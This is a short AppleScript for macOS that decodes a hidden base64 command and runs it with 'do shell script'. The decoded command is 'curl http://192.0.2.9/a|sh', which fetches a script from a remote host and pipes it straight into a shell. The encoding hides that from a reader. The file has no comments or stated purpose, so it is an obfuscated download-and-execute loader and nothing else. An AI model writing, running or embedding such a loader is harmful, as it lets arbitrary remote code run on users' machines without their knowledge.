use framework "Foundation"
set d to current application's NSData's alloc()'s initWithBase64EncodedString:"Y3VybCBodHRwOi8vMTkyLjAuMi45L2F8c2g=" options:0
set s to current application's NSString's alloc()'s initWithData:d encoding:4
do shell script (s as text)
